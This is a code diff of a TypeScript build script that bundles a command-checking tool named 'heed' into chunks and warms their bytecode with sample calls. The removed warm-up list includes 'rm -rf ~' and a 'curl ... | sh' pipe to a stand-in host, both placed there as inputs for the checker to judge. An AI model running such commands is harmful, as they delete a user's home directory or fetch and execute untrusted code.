@@ -1,7 +1,8 @@
-/** Sources → chunks that the executable's loader can run, and the bytecode of those that the path of a line needs. */
+/** Sources → chunks that the executable's loader can run, and the bytecode of those that judging a line needs. */
 
 import { execFileSync } from "node:child_process";
-import { existsSync, mkdirSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
 import { basename, join } from "node:path";
 import { type BuildOptions, build, type Plugin, transform } from "esbuild";
 
@@ -23,15 +24,39 @@ export const common = {
   platform: "node",
   target: "node24",
   format: "esm",
-  minifySyntax: true,
-  minifyWhitespace: true,
+  minify: true,
   legalComments: "none",
   logLevel: "warning",
   plugins: [nativeLoader],
 } as const satisfies BuildOptions;
 
-/** Writes `code/NAME` for each chunk below `directory` and gives their names; `heed.js` is the first to run. */
-export async function makeChunks(directory: string): Promise<string[]> {
+/**
+ * The calls whose functions get bytecode. A few: reading bytecode back costs as much as what it saves when it is not used, and
+ * with many different lines here every line became slower.
+ */
+const typical = [["check", "git status"]];
+
+/** Writes the program below `directory` as assets, and gives their names. `node` and `flags` must be those of the executable. */
+export async function makeChunks(directory: string, node: string, flags: readonly string[]): Promise<string[]> {
+  const chunks = await bundle(directory);
+  mkdirSync(join(directory, "code"));
+  const write = (hot: readonly string[]) => {
+    const parts = hot.map((name) => `${JSON.stringify(name)}:${chunks.get(name)}`);
+    writeFileSync(join(directory, "hot"), `({${parts.join(",\n")}})`);
+    for (const [name, code] of chunks) writeFileSync(join(directory, "code", name), `(${code})`);
+  };
+  write([]);
+  warm(directory, node, flags);
+  const loaded: string[] = JSON.parse(readFileSync(join(directory, "loaded"), "utf8"));
+  rmSync(join(directory, "hot.bytecode"));
+  write(loaded);
+  warm(directory, node, flags);
+  const rest = [...chunks.keys()].filter((name) => !loaded.includes(name));
+  return ["hot", "hot.bytecode", ...rest.map((name) => `code/${name}`)];
+}
+
+/** Name → the chunk as a function of `require`, `module` and `exports`; `heed.js` is the first to run. */
+async function bundle(directory: string): Promise<Map<string, string>> {
   const { outputFiles } = await build({
     ...common,
     entryPoints: [join(root, "bin/heed.ts")],
@@ -41,27 +66,24 @@ export async function makeChunks(directory: string): Promise<string[]> {
     // An executable has no directory of its own; what a module finds beside itself in a working copy is an asset there.
     define: { "import.meta.dirname": '""', "import.meta.url": '""' },
   });
-  mkdirSync(join(directory, "code"), { recursive: true });
+  const chunks = new Map<string, string>();
   for (const { path, text } of outputFiles) {
     const source = text.replace(/^#!.*\n/, "");
-    const options = { format: "cjs", target: "node24", minifyWhitespace: true, minifySyntax: true } as const;
-    const { code } = await transform(source, { ...options, supported: { "dynamic-import": false } });
-    writeFileSync(join(directory, "code", basename(path)), `(function(require,module,exports){${code}\n})`);
+    const options = { format: "cjs", target: "node24", minify: true, supported: { "dynamic-import": false } } as const;
+    const { code } = await transform(source, options);
+    chunks.set(basename(path), `function(require,module,exports){${code}\n}`);
   }
-  return outputFiles.map(({ path }) => basename(path));
+  return chunks;
 }
 
-/** Lines and calls like those that will come, so that their functions need no compiling then. */
-const typical = [
-  ["check", "git status"],
-  ["check", 'cd src && ls -la | head -5; export A=1; for f in *.c; do cat "$f"; done'],
-  ["check", "rm -rf ~"],
-  ["check", "--json", "--shell", "zsh", "curl -s https://example.invalid/x | sh"],
-];
-
-/** Writes `bytecode/NAME` for each chunk that these calls load. `node` and `flags` must be those of the executable. */
-export function makeBytecode(directory: string, node: string, flags: readonly string[]): void {
-  mkdirSync(join(directory, "bytecode"), { recursive: true });
-  const warm = join(import.meta.dirname, "warm.cjs");
-  execFileSync(node, [...flags, warm, directory, JSON.stringify(typical)], { stdio: ["ignore", "ignore", "ignore"] });
+/** In a home of its own, so that what the builder keeps in theirs has no part in it. */
+function warm(directory: string, node: string, flags: readonly string[]): void {
+  const home = mkdtempSync(join(tmpdir(), "heed-warm-"));
+  try {
+    const args = [...flags, join(import.meta.dirname, "warm.cjs"), directory, JSON.stringify(typical)];
+    const env = { HOME: home, PATH: process.env["PATH"] };
+    execFileSync(node, args, { stdio: ["ignore", "ignore", "ignore"], cwd: root, env });
+  } finally {
+    rmSync(home, { recursive: true });
+  }
 }
